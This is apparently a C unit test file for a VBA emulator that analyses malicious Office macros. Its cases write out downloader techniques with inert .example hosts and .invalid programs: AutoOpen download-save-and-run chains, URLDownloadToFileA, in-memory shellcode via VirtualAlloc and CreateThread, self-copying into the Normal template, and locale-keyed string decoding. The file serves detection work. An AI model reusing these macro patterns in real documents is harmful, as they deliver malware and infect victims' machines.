/* What real downloader macros do with the language: each row is one habit, with the effects that it must have. All of it is
 * inert: hosts under .example, programs that do not exist. */
#include <stdio.h>
#include <string.h>

#include "unit/emulate/vba/ran.h"

typedef struct habit {
    const char *name, *source, *lines;
} habit;

#define MODULE(name) "Attribute VB_Name = \"" name "\"\n"

static const habit habits[] = {
    {"an undeclared name is Empty, also as index and argument",
     "Sub AutoOpen()\nDim a(3)\na(junk) = \"x\"\nMsgBox a(0) & junk & Len(other) & (third + 1)\nEnd Sub\n", "message: x01\n"},
    {"the count of a collection that is not modelled is 0",
     "Sub AutoOpen()\nMsgBox ActiveDocument.Tables.Count\nEnd Sub\n", "message: 0\n"},
    {"a loop on an unknown condition ends",
     "Sub AutoOpen()\nDo While Application.Strange(1) = 2\nMsgBox \"in\"\nLoop\nMsgBox \"out\"\nEnd Sub\n", "message: in\nmessage: out\n"},
    {"an If on something unknown runs both ways",
     "Sub AutoOpen()\nIf Application.Strange > 3 Then\nMsgBox 1\nElse\nMsgBox 2\nEnd If\nIf Application.Other Then Exit Sub\nMsgBox 3\nEnd Sub\n",
     "message: 1\nmessage: 2\nmessage: 3\n"},
    {"both branches leave, then it is left",
     "Sub AutoOpen()\nIf Application.Strange Then\nMsgBox 1\nExit Sub\nElse\nMsgBox 2\nExit Sub\nEnd If\nMsgBox 3\nEnd Sub\n", "message: 1\nmessage: 2\n"},
    {"an error in the head of If enters the block",
     "Sub AutoOpen()\nOn Error Resume Next\nIf Log(0) = 1 Then\nMsgBox \"in\"\nElse\nMsgBox \"else\"\nEnd If\nEnd Sub\n", "message: in\n"},
    {"an error in the head of For Each enters once",
     "Sub AutoOpen()\nOn Error Resume Next\nFor Each x In nowhere\nMsgBox \"in\"\nn = n + 1\nNext\nMsgBox n\nEnd Sub\n", "message: in\nmessage: 1\n"},
    {"an error in the head of While and With enters the block",
     "Sub AutoOpen()\nOn Error Resume Next\nWhile Sqr(-1) > 0\nMsgBox \"while\"\nx = x + 1\nIf x > 2 Then GoTo done\nWend\ndone:\nWith nowhere\nMsgBox \"with\"\nEnd With\nEnd Sub\n",
     "message: while\nmessage: with\n"},
    {"errors of junk have their numbers",
     "Sub AutoOpen()\nOn Error Resume Next\nx = Log(0): MsgBox \"a\" & Err: Err.Clear\nx = Sqr(-1): MsgBox \"b\" & Err: Err.Clear\nx = CByte(955): MsgBox \"c\" & Err: Err.Clear\n"
     "x = 0 / 0: MsgBox \"d\" & Err: Err.Clear\nx = ChrB(960): MsgBox \"e\" & Err\nEnd Sub\n",
     "message: a5\nmessage: b5\nmessage: c6\nmessage: d6\nmessage: e6\n"},
    {"Null and a text", "Sub AutoOpen()\nMsgBox Null & \"s\"\nEnd Sub\n", "message: s\n"},
    {"a loop around Create ends because it answers 0",
     "Sub AutoOpen()\nSet p = GetObject(\"winmgmts:Win32_Process\")\nDo While p.Create(\"tool.invalid /q\", Null, Null, pid)\nLoop\nMsgBox \"done\"\nEnd Sub\n",
     "run: tool.invalid /q\nmessage: done\n"},
    {"type suffixes on calls",
     "Sub AutoOpen()\nSet p = GetObject(\"winmgmts:Win32_Process\")\nx = p.Create#(\"one.invalid\", Null, Null, pid)\nx = Shell%(\"two.invalid\", 0)\nEnd Sub\n",
     "run: one.invalid\nrun: two.invalid\n"},
    {"brackets around a function", "Sub AutoOpen()\na = \"three.invalid\"\n[Shell] a, 0\nEnd Sub\n", "run: three.invalid\n"},
    {"a continuation around a dot",
     "Sub AutoOpen()\nx = \"four.invalid\"\nInteraction _\n  .Shell x, _\n  0\nVBA.Interaction _\n.  _\nShell \"five.invalid\"\nEnd Sub\n", "run: four.invalid\nrun: five.invalid\n"},
    {"continuation inside declarations",
     "Private Declare Function _\n  fetch Lib \"urlmon\" _\n  Alias \"URLDownloadToFileA\" (ByVal a As Long, ByVal b As String, _\n  ByVal c As String, ByVal d As Long, ByVal e As Long) As Long\n"
     "Sub AutoOpen()\nfetch 0, \"http://a.example/x\", \"C:\\Users\\x.bin\", 0, 0\nEnd Sub\n",
     "download: http://a.example/x\ndownload: http://a.example/x\nwrite: C:\\Users\\x.bin\n"},
    {"an act as argument of Array", "Sub AutoOpen()\nx = Array(junk, 5, Shell(\"six.invalid\"), 7)\nMsgBox UBound(x)\nEnd Sub\n", "run: six.invalid\nmessage: 3\n"},
    {"constants as characters", "Sub AutoOpen()\nMsgBox Chr(vbKeyP) & ChrW(wdKeyS) & Application.KeyString(67)\nEnd Sub\n", "message: PSC\n"},
    {"a sparse array", "Sub AutoOpen()\nReDim x(87025)\nx(41) = \"sev\": x(87000) = \"en.invalid\"\nShell x(41) & x(87000)\nEnd Sub\n", "run: seven.invalid\n"},
    {"all addresses of a loop, then what is started",
     "Sub AutoOpen()\nOn Error Resume Next\nFor Each u In Split(\"http://a.example/1,http://b.example/2,http://c.example/3\", \",\")\n"
     "Set h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", u, False\nh.send\nIf h.Status = 200 Then\nSet s = CreateObject(\"ADODB.Stream\")\ns.Type = 1\ns.Open\n"
     "s.Write h.responseBody\ns.SaveToFile \"C:\\Users\\d.exe\", 2\nShell \"C:\\Users\\d.exe\"\nExit For\nEnd If\nNext\nEnd Sub\n",
     "download: http://a.example/1\ndownload: http://b.example/2\ndownload: http://c.example/3\ndownload: http://a.example/1\nread: http://a.example/1\nwrite: C:\\Users\\d.exe\nrun: C:\\Users\\d.exe\n"},
    {"an unknown function thrown in goes on",
     "Sub AutoOpen()\nx = NoSuchFunction(\"a\", 1)\nSet o = CreateObject(\"No.Such.Object\")\no.Member(1).Other = 5\nShell \"eight.invalid\"\nEnd Sub\n", "run: eight.invalid\n"},
    {"an error that nobody handles is passed", "Sub AutoOpen()\nx = 1 / 0\nShell \"nine.invalid\"\nEnd Sub\n", "run: nine.invalid\n"},
    {"own code copied",
     "Sub AutoOpen()\ns = ThisDocument.VBProject.VBComponents(1).CodeModule.Lines(1, 10)\nNormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromString s\nEnd Sub\n",
     "replicate: Normal template.CodeModule\n"},
    {"lines of own code are those that the editor shows, one by one into the template",
     MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nAttribute VB_PredeclaredId = True\nPrivate Sub Document_Close()\n'mark\nFor i = 1 To 2\n"
     "s = MacroContainer.VBProject.VBComponents.Item(1).CodeModule.Lines(i, 1)\nMsgBox s\nNext\nWith NormalTemplate.VBProject.VBComponents(1)\n"
     "If .CodeModule.CountOfLines = 0 And Not .CodeModule.Find(\"mark\", 1, 1, 9, 9) Then .CodeModule.InsertLines 1, s\nEnd With\nEnd Sub\n",
     "message: Private Sub Document_Close()\nmessage: 'mark\nreplicate: Normal template.CodeModule\n"},
    {"what is asked of an object by an unknown name still tells the act",
     MODULE("Form1") "Attribute VB_Base = \"0{5E1A}{5E1B}\"\nAttribute VB_PredeclaredId = True\n" MODULE("M")
     "Sub AutoOpen()\nSet s = CreateObject(Form1.kind.Caption)\ns.Run \"one.invalid\", 0\nx = GetObject(Form1.path).Create#(\"two.invalid\", Null, Null, pid)\n"
     "CallByName CreateObject(\"WScript.Shell\"), Form1.verb, VbMethod, \"three.invalid\"\nGetObject(\"winmgmts:Win32_\" & Form1.rest).Create \"four.invalid\"\n"
     "Set f = CreateObject(\"Scripting.\" & Form1.more)\nf.Open \"GET\", \"http://a.example/\", False\nf.SaveToFile \"C:\\a.invalid\"\nEnd Sub\n",
     "run: one.invalid\nrun: two.invalid\nrun: three.invalid\nrun: four.invalid\ndownload: http://a.example/\nwrite: C:\\a.invalid\ndownload: http://a.example/\n"},
    {"an object that is only not modelled acts not",
     "Sub AutoOpen()\nSet o = CreateObject(\"No.Such.Object\")\no.Run \"nine.invalid\"\nApplication.Strange.Create \"ten.invalid\"\nEnd Sub\n", ""},
    {"a loop whose only way out is not known ends",
     "Sub AutoOpen()\nDim a(50)\nDo\np = InStr(ActiveDocument.Strange, \";\")\nIf p = 0 Then a(n) = 1: GoTo out\nn = n + 1\nLoop\nout:\nShell \"eleven.invalid\"\nEnd Sub\n",
     "run: eleven.invalid\n"},
    {"the suffix of a LongLong", "Sub AutoOpen()\nx = 2\nShell^ \"twelve\" + \".invalid\", x ^ 2\nEnd Sub\n", "run: twelve.invalid\n"},
    {"Word's document name even where an event is Excel's",
     MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nAttribute VB_PredeclaredId = True\nSub Workbook_Open()\nMsgBox Right(ActiveDocument.Name, 1)\nEnd Sub\n",
     "message: c\n"},
    {"Open prepares, Close starts",
     "Dim what As String\nSub AutoClose()\nIf what <> \"\" Then Shell what & \".invalid\"\nEnd Sub\nSub AutoOpen()\nwhat = \"late\"\nEnd Sub\n", "run: late.invalid\n"},
    {"conditions on the machine are taken both ways where nothing acted",
     "Sub AutoOpen()\nIf Application.International(1) <> 81 Then Exit Sub\nSelect Case Environ(\"OS\")\nCase \"victim\": Shell \"asked.invalid\"\nEnd Select\nEnd Sub\n",
     "probe: locale\nrun: asked.invalid\n"},
    {"what acts on our machine is not run both ways",
     "Sub AutoOpen()\nIf Application.UserName = \"victim\" Then Shell \"other.invalid\"\nShell \"ours.invalid\"\nEnd Sub\n", "probe: user name\nrun: ours.invalid\n"},
    {"bytes of a file through a conversion of the system",
     "Private Declare Function widen Lib \"kernel32\" Alias \"MultiByteToWideChar\" (ByVal p As Long, ByVal f As Long, s As Any, ByVal n As Long, ByVal t As Long, ByVal m As Long) As Long\n"
     "Private Declare Function narrow Lib \"kernel32\" Alias \"WideCharToMultiByte\" (ByVal p As Long, ByVal f As Long, ByVal s As Long, ByVal n As Long, t As Any, ByVal m As Long, ByVal d As Long, ByVal u As Long) As Long\n"
     "Sub AutoOpen()\nDim b() As Byte, c(7) As Byte\nb = StrConv(\"wide.invalid\", vbFromUnicode)\ns = String$(40, 0)\nn = widen(65001, 0, b(0), UBound(b) + 1, StrPtr(s), Len(s))\n"
     "Shell Left$(s, n)\nk = narrow(65001, 0, StrPtr(\"ab\"), 2, c(0), 8, 0, 0)\nMsgBox k & c(0) & c(1)\nEnd Sub\n",
     "run: wide.invalid\nmessage: 29798\n"},
    {"code that is copied into memory and started",
     "Private Declare PtrSafe Function take Lib \"kernel32\" Alias \"VirtualAlloc\" (ByVal a As Long, ByVal b As Long, ByVal c As Long, ByVal d As Long) As LongPtr\n"
     "Private Declare PtrSafe Function put Lib \"kernel32\" Alias \"RtlMoveMemory\" (ByVal a As LongPtr, ByRef b As Any, ByVal c As Long) As LongPtr\n"
     "Private Declare PtrSafe Function go Lib \"kernel32\" Alias \"CreateThread\" (ByVal a As Long, ByVal b As Long, ByVal c As LongPtr, d As Long, ByVal e As Long, f As Long) As LongPtr\n"
     "Sub AutoOpen()\nx = Array(72, 105, -1, 33)\np = take(0, 4, &H1000, &H40)\nFor i = 0 To 3\nn = x(i)\nt = put(p + i, n, 1)\nNext\nt = go(0, 0, p, 0, 0, 0)\nEnd Sub\n",
     "load: VirtualAlloc\nload: CreateThread\nrun: code in memory\n"},
    {"a library that it wrote is started by loading it",
     "Private Declare Function lib Lib \"kernel32\" Alias \"LoadLibraryA\" (ByVal n As String) As Long\n"
     "Sub AutoOpen()\nOpen \"C:\\Users\\z.dll\" For Output As #1\nPrint #1, \"MZ\"\nClose #1\nx = lib(\"kernel32.dll\")\nx = lib(\"C:\\Users\\z.dll\")\nEnd Sub\n",
     "write: C:\\Users\\z.dll\nload: \nload: \nrun: C:\\Users\\z.dll\n"},
    {"own code by way of a file",
     MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nSub AutoOpen()\nActiveDocument.VBProject.VBComponents(1).Export \"C:\\c.tmp\"\n"
     "NormalTemplate.VBProject.VBComponents(1).Name = \"host\"\nIf NormalTemplate.VBProject.VBComponents(1).Name = \"host\" Then "
     "NormalTemplate.VBProject.VBComponents(1).CodeModule.AddFromFile \"C:\\c.tmp\"\nEnd Sub\n",
     "write: C:\\c.tmp\nreplicate: Normal template.CodeModule\n"},
    {"an address of a text", "Private Declare Function r Lib \"kernel32\" Alias \"WinExec\" (ByVal a As Long, ByVal b As Long) As Long\n"
     "Sub AutoOpen()\nr StrPtr(StrConv(\"ten.invalid\", vbFromUnicode)), 0\nEnd Sub\n", "run: ten.invalid\n"},
    {"a click where nothing starts by itself", "Private Sub CommandButton1_Click()\nShell \"eleven.invalid\"\nEnd Sub\n", "run: eleven.invalid\n"},
    {"a click is not taken where something starts by itself", "Sub AutoOpen()\nEnd Sub\nPrivate Sub CommandButton1_Click()\nShell \"no.invalid\"\nEnd Sub\n", ""},
    {"events of controls on the page",
     MODULE("ThisDocument") "Attribute VB_Base = \"1Normal.ThisDocument\"\nAttribute VB_GlobalNameSpace = False\nAttribute VB_PredeclaredId = True\n"
     "Attribute VB_Control = \"Frame1, 0, 0, MSForms, Frame\"\nPrivate Sub Frame1_Layout()\nShell \"twelve.invalid\"\nEnd Sub\n", "run: twelve.invalid\n"},
    {"each entry point starts fresh, then all in one session",
     "Dim n\nSub AutoOpen()\nn = n + 1\nMsgBox \"open \" & n\nEnd Sub\nSub AutoClose()\nn = n + 1\nMsgBox \"close \" & n\nEnd Sub\n", "message: open 1\nmessage: close 1\nmessage: close 2\n"},
    {"ribbon callback", "Sub whatever(r As IRibbonUI)\nShell \"thirteen.invalid\"\nEnd Sub\n", "run: thirteen.invalid\n"},
    {"an object through CVar", "Function w(o)\nSet w = CVar(o)\nEnd Function\nSub AutoOpen()\nSet p = w(GetObject(\"winmgmts:Win32_Process\"))\np.Create \"t.invalid\", Null, Null, i\nEnd Sub\n",
     "run: t.invalid\n"},
    {"a form that is not there", "Sub AutoOpen()\nShell LostForm.Text1.Tag & \".invalid\"\nEnd Sub\n", "run: {LostForm.Text1.Tag}.invalid\n"},
    {"the length of what was fetched", "Sub AutoOpen()\nSet h = CreateObject(\"MSXML2.XMLHTTP\")\nh.Open \"GET\", \"http://a.example/x\", False\nh.send\nIf LenB(h.responseBody) > 2000 Then MsgBox \"enough\"\nEnd Sub\n",
     "download: http://a.example/x\nread: http://a.example/x\ndownload: http://a.example/x\nmessage: enough\n"},
    {"a small array in a long loop", "Sub AutoOpen()\nFor i = 1 To 30000\nd = Array(7, 8)\nNext\nMsgBox d(1)\nEnd Sub\n", "message: 8\n"},
    {"letter by letter over a long text", "Sub AutoOpen()\ns = String(40000, \"a\")\nFor i = 1 To Len(s)\nx = Mid(s, i, 1)\nNext\nMsgBox \"done\"\nEnd Sub\n", "message: done\n"},
    {"the country as a key", "Sub AutoOpen()\nFor Each c In Array(180, 190, 181)\ns = s & Chr(c - Application.International(xlCountrySetting))\nNext\n"
     "Shell s & \" /c x\"\nEnd Sub\n",
     "probe: locale\nrun: \xC2\xB3\xC2\xBD\xC2\xB4 /c x\nrun: cmd /c x\n"},
    {"concatenation in a loop", "Sub AutoOpen()\nFor i = 1 To 20000\ns = s & \"a\"\nNext\nMsgBox Len(s)\nEnd Sub\n", "message: 20000\n"},
};

static void test_habits(void **state)
{
    (void)state;
    unsigned failed = 0;
    for (size_t i = 0; i < sizeof habits / sizeof *habits; i++) {
        ran r;
        const char *got = ran_text(&r, habits[i].source, false);
        if (strcmp(got, habits[i].lines) != 0 || r.result.lines_broken) {
            print_error("%s:\n%s(%u lines broken)\n", habits[i].name, got, r.result.lines_broken);
            failed++;
        }
        ran_end(&r);
    }
    assert_int_equal(failed, 0);
}

/* ---- with a document ---- */

static sk_document *document(ran *r)
{
    sk_document *d = sk_document_new(r->arena, 1);
    assert_non_null(d);
    return d;
}

static void add_module(sk_document *d, const char *name, sk_module_type type, const char *source)
{
    sk_doc_module row = {.name = sk_bytes_str(name), .type = type, .source = sk_bytes_str(source), .codepage = 1252, .artifact = 3};
    assert_non_null(sk_document_add_module(d, &row));
}

static void add_value(sk_document *d, sk_store store, const char *container, const char *path, const char *name, const char *property, const char *value)
{
    sk_doc_value row = {.store = store, .container = sk_bytes_str(container), .path = sk_bytes_str(path), .name = sk_bytes_str(name),
                        .property = sk_bytes_str(property), .value = sk_bytes_str(value)};
    assert_non_null(sk_document_add_value(d, &row));
}

static const char *run_document(ran *r, sk_world *w, const sk_document *d)
{
    sk_vba_run_document(w, d, &r->result);
    assert_int_equal(r->result.lines_broken, 0);
    return ran_lines(r);
}

static void test_controls(void **state)
{
    (void)state;
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = document(&r);
    add_module(d, "Page", SK_MODULE_DOCUMENT,
               "Private Sub Document_Open()\nMsgBox 1 & Box & Me.Box\nMsgBox 2 & Form1.Text1.Tag & Form1.Text1\nMsgBox 3 & Form1.Controls(\"Text1\").Value\n"
               "MsgBox 4 & Form1.Controls(0).Text & Form1.Multi.Pages(1).Caption & Form1.Caption\nother\nForm1.Text1 = \"new\"\nMsgBox 6 & Form1.Text1.Value\nEnd Sub\n");
    add_module(d, "Module1", SK_MODULE_PROCEDURAL, "Sub other()\nMsgBox 5 & Page.Box & ThisDocument.Box\nWith Form1\nMsgBox .Text1.ControlTipText\nEnd With\nEnd Sub\n");
    add_module(d, "Form1", SK_MODULE_FORM, "Private Sub UserForm_Initialize()\nEnd Sub\n");
    add_value(d, SK_STORE_CONTROL, "Page", "", "Box", "Value", "b");
    add_value(d, SK_STORE_CONTROL, "Form1", "", "Form1", "Caption", "F");
    add_value(d, SK_STORE_CONTROL, "Form1", "", "Text1", "Tag", "tag");
    add_value(d, SK_STORE_CONTROL, "Form1", "", "Text1", "Text", "text");
    add_value(d, SK_STORE_CONTROL, "Form1", "", "Text1", "ControlTipText", "tip");
    add_value(d, SK_STORE_CONTROL, "Form1", "Multi", "Page1", "Caption", "p1");
    add_value(d, SK_STORE_CONTROL, "Form1", "Multi", "Page2", "Caption", "p2");
    const char *got = run_document(&r, w, d);
    (void)got;
    assert_string_equal(got, "message: 1bb\nmessage: 2tagtext\nmessage: 3text\nmessage: 4Fp2F\nmessage: 5bb\nmessage: tip\nmessage: 6new\n");
    ran_end(&r);
}

static void test_stores(void **state)
{
    (void)state;
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = document(&r);
    add_module(d, "ThisDocument", SK_MODULE_DOCUMENT,
               "Sub AutoOpen()\nMsgBox ActiveDocument.Variables(\"v\").Value & ActiveDocument.Variables(\"v\")\nMsgBox ActiveDocument.BuiltInDocumentProperties(\"Title\")\n"
               "MsgBox ThisDocument.BuiltInDocumentProperties(\"Comments\").Value & ActiveDocument.CustomDocumentProperties(\"c\")\n"
               "MsgBox ActiveDocument.Shapes(1).AlternativeText & Shapes(\"S\").TextFrame.TextRange.Text\nMsgBox ActiveDocument.Content.Text\n"
               "MsgBox ActiveDocument.Paragraphs(2).Range.Text & ActiveDocument.Words.Count\nFor Each x In ActiveDocument.BuiltInDocumentProperties\nMsgBox x.Name\nNext\nEnd Sub\n");
    add_value(d, SK_STORE_VARIABLE, "", "", "v", "Value", "var");
    add_value(d, SK_STORE_BUILTIN_PROPERTY, "", "", "Title", "Value", "tit");
    add_value(d, SK_STORE_BUILTIN_PROPERTY, "", "", "Comments", "Value", "com");
    add_value(d, SK_STORE_CUSTOM_PROPERTY, "", "", "c", "Value", "cus");
    add_value(d, SK_STORE_SHAPE, "body", "", "S", "AlternativeText", "alt");
    add_value(d, SK_STORE_SHAPE, "body", "", "S", "Text", "inside");
    add_value(d, SK_STORE_TEXT, "", "", "main", "Text", "first\rsecond one");
    assert_string_equal(run_document(&r, w, d), "message: varvar\nmessage: tit\nmessage: comcus\nmessage: altinside\nmessage: first\rsecond one\n"
                                                "message: second one2\nmessage: Title\nmessage: Comments\n");
    ran_end(&r);
}

static void add_cell(sk_document *d, sk_budget *b, sk_doc_sheet *s, uint32_t row, uint32_t column, const char *text, double number)
{
    sk_doc_cell c = {.row = row, .column = column, .type = text ? SK_CELL_TEXT : SK_CELL_NUMBER, .number = number, .text = sk_bytes_str(text)};
    assert_true(sk_document_add_cell(d, b, s, &c));
}

static void test_cells(void **state)
{
    (void)state;
    ran r;
    sk_world *w = ran_world(&r);
    sk_document *d = document(&r);
    sk_doc_sheet row = {.name = SK_LIT("Data"), .type = SK_SHEET_WORK};
    sk_doc_sheet *s = sk_document_add_sheet(d, &row);
    assert_non_null(s);
    add_cell(d, &r.budget, s, 0, 0, "a1", 0);
    add_cell(d, &r.budget, s, 1, 1, NULL, 66);
    add_cell(d, &r.budget, s, 4, 0, "last", 0);
    add_value(d, SK_STORE_NAME, "", "", "hidden", "RefersTo", "=Data!$A$5");
    add_module(d, "ThisWorkbook", SK_MODULE_DOCUMENT,
               "Private Sub Workbook_Open()\nMsgBox Sheets(\"Data\").Range(\"A1\").Value & Worksheets(1).Cells(2, 2) & Range(\"B2\").Value + 1\n"
               "MsgBox Chr(Cells(2, \"B\")) & [A1] & Range(\"hidden\") & ActiveSheet.Name & Sheets.Count\nRange(\"C3\") = 5\nMsgBox Cells(3, 3) * 2\n"
               "n = Cells(Rows.Count, 1).End(xlUp).Row\nFor Each c In Range(\"A1:B2\")\nt = t & c.Value & \",\"\nNext\nv = Range(\"A1:B2\").Value\nMsgBox n & t & v(2, 2)\nEnd Sub\n");
    assert_string_equal(run_document(&r, w, d), "message: a16667\nmessage: Ba1lastData1\nmessage: 10\nmessage: 5a1,,,66,66\n");
    ran_end(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_habits), cmocka_unit_test(test_controls), cmocka_unit_test(test_stores), cmocka_unit_test(test_cells)};
    return cmocka_run_group_tests(tests, NULL, NULL);
}
